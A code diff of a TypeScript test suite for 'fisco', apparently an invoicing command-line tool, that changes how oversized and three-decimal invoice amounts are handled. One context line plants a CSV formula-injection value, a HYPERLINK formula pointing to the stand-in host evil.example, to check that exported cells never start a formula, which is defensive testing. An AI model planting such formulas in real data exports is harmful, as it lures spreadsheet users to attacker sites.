@@ -149,15 +149,6 @@ describe('issue 22: hostile cells, keys and numbers in lists', () => {
   const get = async (path: string): Promise<any> => (await fetch(`${hh.emulator.url}${path}`, { headers: { authorization: 'Bearer demo-prod-rossi' } })).json();
   const inject = (path: string, raw: string) => hh.emulator.injectFault({ method: 'GET', path, times: 1, action: 'raw', raw });
   /** The first invoice of a two-item page answered with `total` as its total_amount: the list is refused (exit 8, nothing on stdout). */
-  const refusedTotal = async (total: string, format: string): Promise<RunResult> => {
-    const page = await get('/v1/invoices?per_page=2');
-    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, `"total_amount":${total}`));
-    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', format]);
-    expect(result.exitCode).toBe(8);
-    expect(result.stdout).toBe('');
-    return result;
-  };
-
   it('#1 a bare line break in a cell stays inside its quoted cell, in -o csv and --csv-dialect it; no line starts a formula', async () => {
     const page = await get('/clients?per_page=3');
     page.data[0].name = 'Innocua S.r.l.\n=HYPERLINK("http://evil.example/?x","clic")';
@@ -201,14 +192,32 @@ describe('issue 22: hostile cells, keys and numbers in lists', () => {
     expect(api.stdout).toContain(`"ledger_id": ${big}`);
   });
 
-  it('#11 a big integer where fisco computes (an amount) is refused, exit 8 naming the field', async () => {
-    expect((await refusedTotal('90071992547409931', 'json')).stderr).toMatch(/data\[0\]\.total_amount/);
+  // Issue 27 replaced issue 22's refusal: an amount is decoded exactly as sent and never stops a page.
+  const listedTotal = async (total: string, format: string): Promise<RunResult> => {
+    const page = await get('/v1/invoices?per_page=2');
+    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, `"total_amount":${total}`));
+    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', format]);
+    expect(result.exitCode, result.stderr).toBe(0);
+    return result;
+  };
+
+  it('#11 a big integer in an amount comes out exactly (issue 27: never a stopped page)', async () => {
+    expect(parseJson<{ total_amount: string }[]>((await listedTotal('90071992547409931', 'json')).stdout)[0]!.total_amount).toBe('90071992547409931.00');
   });
 
-  it('#12 an amount with three decimals is refused, exit 8 naming the field, never rounded', async () => {
-    const result = await refusedTotal('100.125', 'csv');
-    expect(result.stderr).toMatch(/data\[0\]\.total_amount: the amount 100\.125 has more than two decimals; fisco does not round amounts/);
+  it('#12 an amount with three decimals is shown exactly as sent, never rounded (issue 27)', async () => {
+    const result = await listedTotal('100.125', 'csv');
+    expect(result.stdout).toContain(',100.125,');
     expect(result.stdout).not.toContain('100.13');
+  });
+
+  it('what is not an amount at all still stops the list: exit 8 naming the field, nothing on stdout', async () => {
+    const page = await get('/v1/invoices?per_page=2');
+    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, '"total_amount":"12,50"'));
+    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', 'json']);
+    expect(result.exitCode).toBe(8);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toMatch(/data\[0\]\.total_amount: not an amount: "12,50"/);
   });
 
   it('#15 `fisco api --paginate` keeps the per_page the user gave', async () => {
